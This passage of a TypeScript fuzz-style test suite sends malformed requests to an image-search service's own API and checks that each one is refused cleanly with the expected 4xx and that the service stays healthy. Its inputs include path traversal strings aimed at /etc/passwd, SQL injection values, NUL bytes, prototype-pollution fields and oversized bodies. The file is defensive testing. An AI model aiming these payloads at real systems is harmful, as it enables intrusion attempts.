  text('retag: a NUL in an attribute key', 'PATCH', `/v1/images/${imageId}`, 'tenant', {
    attributes: { 'k\u0000': 'v' },
  });
  text('retag: an unpaired surrogate in a tag', 'PATCH', `/v1/images/${imageId}`, 'tenant', {
    tags: ['\ud800'],
  });
  text('retag: a tag of 33 emoji', 'PATCH', `/v1/images/${imageId}`, 'tenant', { tags: ['😀'.repeat(33)] });
  text('provision a tenant: a NUL in the name', 'POST', '/v1/tenants', 'admin', {
    slug: 'nulname',
    name: 'Acme\u0000Corp',
  });
  text('provision a tenant: an RTL override in the slug', 'POST', '/v1/tenants', 'admin', {
    slug: '\u202eemca',
    name: 'x',
  });
  text('change a tenant: a NUL in the suspension reason', 'PATCH', `/v1/tenants/${tenantId}`, 'admin', {
    status: 'suspended',
    reason: 'unpaid\u0000',
  });
  text('create an API key: a NUL in the name', 'POST', `/v1/tenants/${tenantId}/api-keys`, 'tenant', {
    scopes: ['search'],
    name: 'ci\u0000',
  });
  text('create a user: a NUL in the e-mail', 'POST', '/v1/users', 'admin', {
    ...user,
    email: 'a\u0000@hostile.test',
  });
  text('configure storage: a NUL in the access key id', 'PUT', `/v1/tenants/${tenantId}/storage`, 'admin', {
    ...storage,
    accessKeyId: 'AKIA\u0000',
  });

  // Path parameters.
  const path = (
    name: string,
    method: string,
    p: string,
    expect: HostileRequest['expect'],
    as: HostileRequest['as'] = 'tenant',
    init = jsonRequest({ tags: ['a'] }),
  ) =>
    add({
      category: 'path parameter',
      name,
      method,
      path: p,
      as,
      ...(method === 'DELETE' || method === 'GET' ? {} : init),
      expect,
    });
  path('retag: an id that is not a UUID', 'PATCH', '/v1/images/not-a-uuid', invalid);
  path('retag: an encoded path traversal', 'PATCH', '/v1/images/..%2F..%2Fetc%2Fpasswd', invalid);
  path(
    'delete: encoded dots and slashes',
    'DELETE',
    '/v1/images/%2e%2e%2f%2e%2e%2fwrite.aggregates',
    invalid,
  );
  path('delete: a UUID with a NUL after it', 'DELETE', `/v1/images/${missingId}%00`, invalid);
  path('delete: a UUID with SQL after it', 'DELETE', `/v1/images/${missingId}'%20or%20'1'='1`, invalid);
  path('delete: a 10 000-character id', 'DELETE', `/v1/images/${'a'.repeat(10_000)}`, invalid);
  path('delete: an id nobody has', 'DELETE', `/v1/images/${missingId}`, notFound);
  path('delete: the nil UUID', 'DELETE', '/v1/images/00000000-0000-0000-0000-000000000000', notFound);
  path('retag: an id nobody has', 'PATCH', `/v1/images/${missingId}`, notFound);
  path(
    'dot segments up to /v1/tenants (a tenant user)',
    'POST',
    '/v1/images/../tenants',
    forbidden,
    'tenant',
    jsonRequest({ slug: 'dotted', name: 'x' }),
  );
  path('read a tenant: encoded traversal', 'GET', '/v1/tenants/..%2f..%2fplatform', invalid, 'admin');
  path('erase a tenant nobody has', 'DELETE', `/v1/tenants/${missingId}`, notFound, 'admin');
  path(
    'create an API key: a tenant id that is not a UUID',
    'POST',
    '/v1/tenants/not-a-uuid/api-keys',
    invalid,
    'tenant',
    jsonRequest({ scopes: ['search'] }),
  );
  path(
    'create an API key: another tenant id',
    'POST',
    `/v1/tenants/${missingId}/api-keys`,
    notFound,
    'tenant',
    jsonRequest({ scopes: ['search'] }),
  );
  path(
    'revoke an API key: encoded traversal',
    'DELETE',
    `/v1/tenants/${tenantId}/api-keys/..%2f..%2fx`,
    invalid,
  );
  path('revoke an API key nobody has', 'DELETE', `/v1/tenants/${tenantId}/api-keys/${missingId}`, notFound);
  path('a method with no route: PUT /v1/images', 'PUT', '/v1/images', notFound);
  path('a method with no route: POST /v1/images/{id}', 'POST', `/v1/images/${imageId}`, notFound);

  // Credentials and headers.
  const credentials = (
    name: string,
    headers: Record<string, string>,
    expect: HostileRequest['expect'] = unauthenticated,
  ) =>
    add({
      category: 'credentials',
      name: `upload: ${name}`,
      method: 'POST',
      path: '/v1/images',
      as: 'anonymous',
      ...multipartRequest(fileParts('a.jpg', jpeg)),
      headers: { ...multipartRequest([]).headers, ...headers },
      expect,
    });
  credentials('no credentials', {});
  credentials('Basic credentials', {
    authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}`,
  });
  credentials('Bearer with no token', { authorization: 'Bearer' });
  credentials('a garbage Bearer token', { authorization: 'Bearer not.a.jwt' });
  credentials('a 10 KiB Bearer token', { authorization: `Bearer ${'a'.repeat(10_240)}` });
  credentials(
    'both Authorization and X-API-Key',
    { authorization: 'Bearer x', 'x-api-key': 'dl_aaaaaaaa_x' },
    invalid,
  );
  credentials('a malformed API key', { 'x-api-key': 'letmein' });
  credentials('a well-formed API key nobody holds', { 'x-api-key': `dl_aaaaaaaa_${'A'.repeat(43)}` });
  credentials('an ApiKey scheme key nobody holds', { authorization: `ApiKey dl_zzzzzzzz_${'B'.repeat(43)}` });
  const header = (name: string, headers: Record<string, string>) =>
    add({
      category: 'header',
      name: `retag: ${name}`,
      method: 'PATCH',
      path: `/v1/images/${imageId}`,
      ...jsonRequest({ tags: ['a'] }),
      headers: { 'content-type': 'application/json', ...headers },
      expect: invalid,
    });
  header('a 256-character Idempotency-Key', { 'idempotency-key': 'k'.repeat(256) });
  header('an Idempotency-Key with a space', { 'idempotency-key': 'two words' });
  header('an Idempotency-Key with a Latin-1 letter', { 'idempotency-key': 'caf\u00e9' });
  return rows;
}

/** Every hostile row for the read API. */
export async function readApiHostileRequests(ctx: HostileContext): Promise<HostileRequest[]> {
  const { tenantId, missingId } = ctx;
  const rows: HostileRequest[] = [];
  const add = (row: HostileRequest) => rows.push(row);
  const jpeg = await makeJpeg(64, 48, 31);
  const search = (
    category: HostileCategory,
    name: string,
    init: Pick<HostileRequest, 'headers' | 'body'>,
    expect: HostileRequest['expect'],
    query = '',
  ) =>
    add({ category, name: `search: ${name}`, method: 'POST', path: `/v1/search${query}`, ...init, expect });

  for (const file of await hostileFiles())
    search(
      file.category,
      `query image: ${file.name}`,
      multipartRequest(fileParts(file.filename, file.bytes, file.declaredType)),
      file.expect,
    );

  // Multipart search.
  const form = multipart(fileParts('q.jpg', jpeg));
  search('multipart structure', 'no query image', multipartRequest([{ name: 'k', data: '5' }]), invalid);
  search(
    'multipart structure',
    'two query images',
    multipartRequest([...fileParts('a.jpg', jpeg), ...fileParts('b.jpg', jpeg)]),
    tooLarge,
  );
  search(
    'multipart structure',
    '9 fields (8 allowed)',
    multipartRequest([
      ...fileParts('a.jpg', jpeg),
      ...Array.from({ length: 9 }, (_, i) => ({ name: `f${i}`, data: '1' })),
    ]),
    tooLarge,
  );
  search(
    'multipart structure',
    'a 20 KiB field',
    multipartRequest([...fileParts('a.jpg', jpeg), { name: 'filter', data: ' '.repeat(20 * 1024) }]),
    tooLarge,
  );
  search(
    'multipart structure',
    'a 26 MiB query image',
    multipartRequest(fileParts('big.jpg', Buffer.concat([jpeg, Buffer.alloc(26 * 2 ** 20)]))),
    tooLarge,
  );
  search(
    'multipart structure',
    'cut off before the closing boundary',
    { headers: { 'content-type': form.contentType }, body: form.body.subarray(0, form.body.length - 40) },
    invalid,
  );
  search(
    'multipart structure',
    'a boundary that is not the one in the body',
    { headers: { 'content-type': 'multipart/form-data; boundary=other' }, body: form.body },
    invalid,
  );
  search(
    'multipart structure',
    'no boundary',
    { headers: { 'content-type': 'multipart/form-data' }, body: form.body },
    invalid,
  );
  const withOptions = (name: string, fields: Record<string, string>, expect = invalid, query = '') =>
    search(
      'upload fields',
      `query image with ${name}`,
      multipartRequest([
        ...fileParts('q.jpg', jpeg),
        ...Object.entries(fields).map(([n, data]) => ({ name: n, data })),
      ]),
      expect,
      query,
    );
  withOptions('k=abc', { k: 'abc' });
  withOptions('k=0', { k: '0' });
  withOptions('threshold=5', { threshold: '5' });
  withOptions('threshold=NaN', { threshold: 'NaN' });
  withOptions('a filter that is not JSON', { filter: 'tags=a' });
  withOptions('a filter with tags as a string', { filter: '{"tags": "a"}' });
  withOptions('an unknown field tenantId', { tenantId: missingId });
  // The documented `model` query parameter is modelId@version of [\w.-] (as in a JSON search): 400.
  withOptions('a model query parameter with traversal', {}, invalid, '?model=..%2F..%2Fetc%40x');

  // Content types of the JSON search.
  search(
    'content type',
    'text/plain',
    { headers: { 'content-type': 'text/plain' }, body: `{"imageId":"${missingId}"}` },
    unsupported,
  );
  search('content type', 'no content type', { body: `{"imageId":"${missingId}"}` }, unsupported);
  search(
    'content type',
    'application/x-www-form-urlencoded',
    { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `imageId=${missingId}` },
    unsupported,
  );
  search(
    'content type',
    'multipart/mixed',
    { headers: { 'content-type': 'multipart/mixed; boundary=hostile-7f3a9c' }, body: form.body },
    unsupported,
  );

  // Malformed JSON.
  const malformed: [string, string | Buffer][] = [
    ['truncated', `{"imageId": "${missingId}"`],
    ['a trailing comma', `{"imageId": "${missingId}",}`],
    ['single quotes', `{'imageId': '${missingId}'}`],
    ['an empty body', ''],
    ['null', 'null'],
    ['an array', `[{"imageId": "${missingId}"}]`],
    ['nested 100 000 deep', '{"filter":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}'],
    [
      'invalid UTF-8 bytes',
      Buffer.concat([Buffer.from('{"imageId": '), Buffer.from([0xff, 0xfe]), Buffer.from('}')]),
    ],
  ];
  for (const [name, text] of malformed) search('malformed JSON', name, rawJson(text), invalid);
  search('malformed JSON', 'a 40 MiB body', rawJson(`{"vector": [${'0,'.repeat(20 * 2 ** 20)}0]}`), tooLarge);

  // Wrong types and absurd values.
  const byId = { imageId: missingId };
  const searchCases: [string, unknown][] = [
    ['k = 0', { ...byId, k: 0 }],
    ['k = -1', { ...byId, k: -1 }],
    ['k = 101', { ...byId, k: 101 }],
    ['k = 1e9', { ...byId, k: 1e9 }],
    ['k = 1.5', { ...byId, k: 1.5 }],
    ['k = "abc"', { ...byId, k: 'abc' }],
    ['k = "10" (a string)', { ...byId, k: '10' }],
    ['k = null', { ...byId, k: null }],
    ['k = true', { ...byId, k: true }],
    ['k = [5]', { ...byId, k: [5] }],
    ['threshold = 2', { ...byId, threshold: 2 }],
    ['threshold = -2', { ...byId, threshold: -2 }],
    ['threshold = "NaN"', { ...byId, threshold: 'NaN' }],
    ['threshold = "Infinity"', { ...byId, threshold: 'Infinity' }],
    ['threshold = "0.9" (a string)', { ...byId, threshold: '0.9' }],
    ['an all-zero vector', { vector: new Array<number>(1280).fill(0) }],
    ['a vector of denormals', { vector: new Array<number>(1280).fill(1e-40) }],
    [
      'a vector with a component of 1e39 (Infinity as float32)',
      { vector: [1e39, ...new Array<number>(1279).fill(0.1)] },
    ],
    ['a vector holding "NaN"', { vector: ['NaN', 1] }],
    ['a vector holding "Infinity"', { vector: ['Infinity', 1] }],
    ['a vector as a string', { vector: '1,2,3' }],
    ['an empty vector', { vector: [] }],
    ['a nested vector', { vector: [[1]] }],
    ['a vector as an object', { vector: { 0: 1 } }],
    ['a 3-element vector (wrong dimension)', { vector: [1, 2, 3] }],
    ['both imageId and vector', { imageId: missingId, vector: [1] }],
    ['neither imageId nor vector', { k: 5 }],
    ['imageId that is not a UUID', { imageId: 'x' }],
    ['imageId as a number', { imageId: 1 }],
    ['imageId with path traversal', { imageId: '../../etc/passwd' }],
    ['imageId with SQL', { imageId: "' OR 1=1 --" }],
    ['filter as a string', { ...byId, filter: 'x' }],
    ['filter tags as a string', { ...byId, filter: { tags: 'x' } }],
    ['a number filter tag', { ...byId, filter: { tags: [1] } }],
    ['33 filter tags', { ...byId, filter: { tags: Array.from({ length: 33 }, (_, i) => `t${i}`) } }],
    ['a number filter attribute', { ...byId, filter: { attributes: { a: 1 } } }],
    ['a filter naming a tenant', { ...byId, filter: { tenantId } }],
    ['a model without a version', { ...byId, model: 'mobilenet' }],
    ['a model with path traversal', { ...byId, model: '../../models@1' }],
    ['a model with two @', { ...byId, model: 'a@b@c' }],
    ['a 300-character model', { ...byId, model: `${'m'.repeat(150)}@${'v'.repeat(150)}` }],
    ['an unknown field tenantId', { ...byId, tenantId }],
    ['a __proto__ field', JSON.parse(`{"imageId": "${missingId}", "__proto__": {"k": 100}}`)],
    ['a NUL in a filter tag', { ...byId, filter: { tags: ['a\u0000'] } }],
  ];
  for (const [name, value] of searchCases) search('wrong type', name, jsonRequest(value), invalid);
  // 2 MB of JSON: over the 1 MiB a JSON query may be, so refused before it is parsed.
  search(
    'wrong type',
    'a 1 000 000-element vector',
    jsonRequest({ vector: new Array<number>(1_000_000).fill(0) }),
    tooLarge,
  );
  search('path parameter', 'an imageId nobody has', jsonRequest(byId), notFound);

  // Query parameters and path parameters of the GET routes.
  const get = (
    category: HostileCategory,
    name: string,
    p: string,
    expect: HostileRequest['expect'] = invalid,
  ) => add({ category, name, method: 'GET', path: p, expect });
  const cursorOf = (value: string) => Buffer.from(value).toString('base64url');
  for (const [name, query] of [
    ['limit=0', 'limit=0'],
    ['limit=-1', 'limit=-1'],
    ['limit=501', 'limit=501'],
    ['limit=abc', 'limit=abc'],
    ['limit=1e9', 'limit=1e9'],
    ['limit=1.5', 'limit=1.5'],
    ['limit=Infinity', 'limit=Infinity'],
    ['a cursor of garbage', 'cursor=!!!not-base64!!!'],
    ['a cursor that is not JSON', `cursor=${cursorOf('hello')}`],
    ['a cursor that is a JSON object', `cursor=${cursorOf('{"a":1}')}`],
    ['a cursor with an out-of-range time', `cursor=${cursorOf(`[1e300,"${missingId}"]`)}`],
    ['a cursor with a fractional time', `cursor=${cursorOf(`[1.5,"${missingId}"]`)}`],
    ['a cursor with a negative time', `cursor=${cursorOf(`[-1000000000000000,"${missingId}"]`)}`],
    ['a cursor past the year 9999', `cursor=${cursorOf(`[253402300800000,"${missingId}"]`)}`],
    ['a cursor whose id is not a UUID', `cursor=${cursorOf('[1700000000000,"x"]')}`],
    ['a cursor of null', `cursor=${cursorOf('null')}`],
    ['a 513-character cursor', `cursor=${'c'.repeat(513)}`],
    ['status=deleted', 'status=deleted'],
    ['a 65-character tag', `tag=${'t'.repeat(65)}`],
    ['an empty tag', 'tag='],
    ['an unknown parameter tenantId', `tenantId=${tenantId}`],
    ['a tag with an encoded NUL', 'tag=a%00b'],
  ] as const)
    get('query parameter', `list images: ${name}`, `/v1/images?${query}`);
  for (const [name, query] of [
    ['k=0', 'k=0'],
    ['k=abc', 'k=abc'],
    ['k=101', 'k=101'],
    ['threshold=9', 'threshold=9'],
    ['threshold=NaN', 'threshold=NaN'],
    ['a filter parameter', 'filter=x'],
    ['a malformed model', 'model=..%2F..'],
    ['a 65-character tag', `tag=${'t'.repeat(65)}`],
  ] as const)
    get('query parameter', `similar: ${name}`, `/v1/images/${missingId}/similar?${query}`);
  for (const [name, query] of [
    ['threshold=0.4', 'threshold=0.4'],
    ['threshold=abc', 'threshold=abc'],
    ['limit=1', 'limit=1'],
    ['limit=5001', 'limit=5001'],
    ['an unknown parameter', 'tenant=other'],
  ] as const)
    get('query parameter', `duplicates: ${name}`, `/v1/duplicates?${query}`);
  for (const suffix of ['', '/thumbnail', '/content', '/similar']) {
    const route = `image${suffix}`;
    get('path parameter', `${route}: an id that is not a UUID`, `/v1/images/not-a-uuid${suffix}`);
    get(
      'path parameter',
      `${route}: an encoded path traversal`,
      `/v1/images/..%2F..%2Fetc%2Fpasswd${suffix}`,
    );
    get('path parameter', `${route}: a UUID with a NUL after it`, `/v1/images/${missingId}%00${suffix}`);
    get('path parameter', `${route}: an id nobody has`, `/v1/images/${missingId}${suffix}`, notFound);
  }
  get('path parameter', 'usage: a tenant id that is not a UUID', '/v1/tenants/not-a-uuid/usage');
  get('path parameter', 'usage: an encoded path traversal', '/v1/tenants/..%2f..%2fplatform/usage');
  get('path parameter', 'usage: a tenant id nobody has', `/v1/tenants/${missingId}/usage`, notFound);
  get('path parameter', 'dot segments out of /v1', '/v1/images/../../etc/passwd', notFound);
  add({
    category: 'path parameter',
    name: 'a method with no route: DELETE /v1/images/{id}',
    method: 'DELETE',
    path: `/v1/images/${missingId}`,
    expect: notFound,
  });

  // Credentials.
  const credentials = (
    name: string,
    headers: Record<string, string>,
    expect: HostileRequest['expect'] = unauthenticated,
  ) =>
    add({
      category: 'credentials',
      name: `search: ${name}`,
      method: 'POST',
      path: '/v1/search',
      as: 'anonymous',
      ...jsonRequest(byId),
      headers: { 'content-type': 'application/json', ...headers },
      expect,
    });
  credentials('no credentials', {});
  credentials('Basic credentials', {
    authorization: `Basic ${Buffer.from('admin:admin').toString('base64')}`,
  });
  credentials('a garbage Bearer token', { authorization: 'Bearer not.a.jwt' });
  credentials(
    'both Authorization and X-API-Key',
    { authorization: 'Bearer x', 'x-api-key': 'dl_aaaaaaaa_x' },
    invalid,
  );
  credentials('a well-formed API key nobody holds', { 'x-api-key': `dl_aaaaaaaa_${'A'.repeat(43)}` });
  add({
    category: 'credentials',
    name: 'search: a token in the query string only',
    method: 'POST',
    path: '/v1/search?access_token=x&api_key=dl_aaaaaaaa_x',
    as: 'anonymous',
    ...jsonRequest(byId),
    expect: unauthenticated,
  });
  return rows;
}

export type RawResponse = {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
};

/**
 * Sends a row as is with `node:http` (fetch would normalise the path and add a content type),
 * with `authorization` added for its caller. Fails after `timeoutMs`: a hang is a finding too.
 */
export function sendRaw(
  baseUrl: string,
  row: Pick<HostileRequest, 'method' | 'path' | 'headers' | 'body'>,
  authorization: string | undefined,
  timeoutMs = 30_000,
): Promise<RawResponse> {
  const url = new URL(baseUrl);
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        method: row.method,
        path: row.path,
        headers: { ...(authorization ? { authorization } : {}), ...row.headers },
        timeout: timeoutMs,
        // A connection of its own: the server may close one whose request body it did not read.
        agent: false,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            text: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('timeout', () => req.destroy(new Error(`no answer in ${timeoutMs} ms`)));
    req.on('error', reject);
    req.end(row.body);
  });
}

export type HostileRun = {
  /** One line per row that got anything but its expected problem. */
  failures: string[];
  /** Rows sent, by category. */
  sent: Record<string, number>;
  /** Answers by status, over all rows. */
  statuses: Record<number, number>;
};

/**
 * Sends every row in order and checks each answer: the expected 4xx, `application/problem+json`
 * with `type`, `title`, `status` and `code` (the expected one when the row names it), never a
 * 5xx; after every `batchSize` rows, `GET /healthz` must still answer 200.
 */
export async function runHostileRequests(
  baseUrl: string,
  rows: HostileRequest[],
  authorizationOf: (as: NonNullable<HostileRequest['as']>) => string | undefined,
  batchSize = 25,
): Promise<HostileRun> {
  const run: HostileRun = { failures: [], sent: {}, statuses: {} };
  for (const [index, row] of rows.entries()) {
    const label = `[${row.category}] ${row.method} ${row.name}`;
    run.sent[row.category] = (run.sent[row.category] ?? 0) + 1;
    let response: RawResponse;
    try {
      response = await sendRaw(baseUrl, row, authorizationOf(row.as ?? 'tenant'));
    } catch (error) {
      run.failures.push(`${label}: no answer (${(error as Error).message})`);
      continue;
    }
    run.statuses[response.status] = (run.statuses[response.status] ?? 0) + 1;
    const problems: string[] = [];
    if (response.status !== row.expect.status)
      problems.push(`status ${response.status}, expected ${row.expect.status}`);
    if (!/^application\/problem\+json/.test(String(response.headers['content-type'])))
      problems.push(`content-type ${String(response.headers['content-type'])}`);
    let body: Record<string, unknown> = {};
    try {
      body = JSON.parse(response.text) as Record<string, unknown>;
    } catch {
      problems.push('a body that is not JSON');
    }
    for (const member of ['type', 'title', 'code'] as const)
      if (typeof body[member] !== 'string') problems.push(`no ${member}`);
    if (body['status'] !== response.status) problems.push(`body status ${String(body['status'])}`);
    if (row.expect.code !== undefined && body['code'] !== row.expect.code)
      problems.push(`code ${String(body['code'])}, expected ${row.expect.code}`);
    if (problems.length > 0)
      run.failures.push(`${label}: ${problems.join('; ')} — ${response.text.slice(0, 300)}`);
    if ((index + 1) % batchSize === 0 || index === rows.length - 1) {
      const health = await sendRaw(baseUrl, { method: 'GET', path: '/healthz' }, undefined).catch(
        (error: Error) => ({ status: 0, text: error.message }),
      );
      if (health.status !== 200)
        run.failures.push(`/healthz after row ${index + 1}: ${health.status} ${health.text}`);
    }
  }
  return run;
}
